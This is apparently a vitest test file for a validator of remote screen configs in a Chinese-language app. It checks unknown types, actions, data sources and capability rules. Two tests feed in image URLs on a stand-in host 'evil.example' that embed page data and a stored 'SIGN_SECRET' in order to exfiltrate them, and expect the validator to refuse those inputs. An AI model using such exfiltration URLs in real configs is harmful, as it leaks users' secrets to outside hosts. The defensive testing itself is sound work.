import { describe, expect, it } from 'vitest'
import { createTestEngine } from '../testing-engine'
import { checkRemoteScreen } from './check-remote-screen'
import { runTimeCapabilities } from './run-time-capabilities'

// The site's origin, passed in: this test runs under Node, where there is no location.
const ORIGIN = 'https://app.example.cn'

/** The check in English (the default is Chinese, as the failure page shows it). */
const checkEn = (config: unknown, file: string) =>
  checkRemoteScreen(config, file, createTestEngine(), ORIGIN, runTimeCapabilities(ORIGIN), 'en')

const good = {
  $schema: '../../schemas/screen.schema.json',
  id: 'activity/autumn-walk',
  routes: [{ path: '/activity/page/autumn-walk', auth: 'none' }],
  title: '秋季健步走',
  data: { account: { call: 'points.account' } },
  body: [
    { type: 'text', text: "报名截止 {{ date(query.end, 'M月D日') }}" },
    { type: 'button', text: '立即报名', press: { action: 'toast', text: '报名成功' } },
  ],
}

describe('checkRemoteScreen', () => {
  it('passes a config in the screen language that uses registered names only', async () => {
    const loaded = await checkEn(good, 'remote:autumn-walk')
    expect(loaded.problems).toEqual([])
    expect(loaded.config).toBe(good)
  })

  it('names each mistake with its JSON path, and draws nothing', async () => {
    const bad = {
      ...good,
      body: [
        { type: 'txt', text: 'x' },
        { type: 'button', text: '报名', press: { action: 'launchRocket' } },
        { type: 'text', text: 'x', colour: 'red' },
      ],
      data: { account: { sql: 'select 1' } },
    }
    const loaded = await checkEn(bad, 'remote:bad')
    expect(loaded.config).toBeNull()
    const byPath = Object.fromEntries(loaded.problems.map((p) => [p.path, p.message]))
    expect(byPath['/body/0/type']).toMatch(/^unknown node type "txt" \(did you mean "text"\?\)/)
    expect(byPath['/body/1/press/action']).toMatch(/^unknown action "launchRocket"/)
    expect(byPath['/body/2/colour']).toMatch(/unknown property "colour"/)
    expect(byPath['/data/account']).toMatch(/data source needs one of the keys call/)
    expect(loaded.problems.every((p) => p.file === 'remote:bad')).toBe(true)
  })

  it('refuses calls and functions this app does not have', async () => {
    const config = { ...good, data: { x: { call: 'bank.transferAll' } }, body: [{ type: 'text', text: '{{ fetch(1) }}{{ date(1, ) }}' }] }
    const loaded = await checkEn(config, 'remote:x')
    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      '/data/x/call: unknown call "bank.transferAll". Use a call of src/api/catalogue.ts',
      expect.stringMatching(/^\/body\/0\/text: unknown function "fetch"/),
      expect.stringMatching(/^\/body\/0\/text: .+/),
    ])
  })

  it('names a t() key the shared wording lacks, and passes one it has', async () => {
    const config = { ...good, data: {}, body: [{ type: 'text', text: "{{ t('retry') }} {{ t('retyr') }}" }] }
    const loaded = await checkEn(config, 'remote:w')
    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      expect.stringMatching(/^\/body\/0\/text: unknown wording key "retyr"/),
    ])
  })

  it('refuses data.<name> the config does not declare, and says so in Chinese by default', async () => {
    const config = { ...good, body: [{ type: 'text', text: '{{ data.acount.balance }}' }] }
    const loaded = await checkRemoteScreen(config, 'remote:typo', createTestEngine(), ORIGIN)
    expect(loaded.config).toBeNull()
    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      '/body/0/text: 未知的数据源“acount”（在 {{ data.acount.balance }} 中）（是不是想写“account”？）（本页声明的有：account）。改成本页 "data" 里声明的名字，或在 "data" 里声明它',
    ])
  })

  it('refuses what is not a screen at all', async () => {
    const loaded = await checkEn([1, 2], 'remote:y')
    expect(loaded.config).toBeNull()
    expect(loaded.problems[0].path).toBe('')
  })
})

describe('checkRemoteScreen under the run-time capabilities', () => {
  it('refuses a config that reads inspect and storage and sends them off the site in a picture', async () => {
    const config = {
      ...good,
      data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
      body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '' }],
    }
    const loaded = await checkEn(config, 'remote:x')
    expect(loaded.config).toBeNull()
    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      expect.stringMatching(/^\/data\/calls: .*\(capability: data sources\): the "inspect" data source/),
      expect.stringMatching(/^\/data\/secret: .*\(capability: data sources\): the "storage" data source/),
      expect.stringMatching(/^\/body\/0\/src: .*\(capability: images\)/),
    ])
  })

  it("holds a banner's picture to the image-host rule: this site's passes, a foreign host's is refused", async () => {
    const banner = (src: string) => ({
      ...good,
      body: [{ type: 'banner', title: '秋季健步走', subtitle: '报名进行中', picture: { src, fit: 'cover' } }],
    })
    const own = await checkEn(banner('/edu/screens-api/assets/7f3a'), 'remote:own')
    expect(own.problems).toEqual([])
    const foreign = await checkEn(banner('https://evil.example/b.png?d={{ json(data) }}'), 'remote:foreign')
    expect(foreign.config).toBeNull()
    expect(foreign.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      expect.stringMatching(/^\/body\/0\/picture\/src: .*\(capability: images\)/),
    ])
  })

  it('refuses writing calls of the catalogue on entering, and lets a reading one and a tapped one through', async () => {
    const config = {
      ...good,
      enter: [
        { action: 'call', call: 'points.account' },
        { action: 'call', call: 'homepage.follow', args: { accountCode: 'x', follow: true } },
        { action: 'call', call: 'content.comment' },
      ],
      body: [{ type: 'button', text: '关注', press: { action: 'call', call: 'homepage.follow' } }],
    }
    const loaded = await checkEn(config, 'remote:x')
    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      expect.stringMatching(/^\/enter\/1\/call: .*\(capability: writing calls\): "homepage.follow" changes data/),
      expect.stringMatching(/^\/enter\/2\/call: .*"content.comment" changes data/),
    ])
  })
})
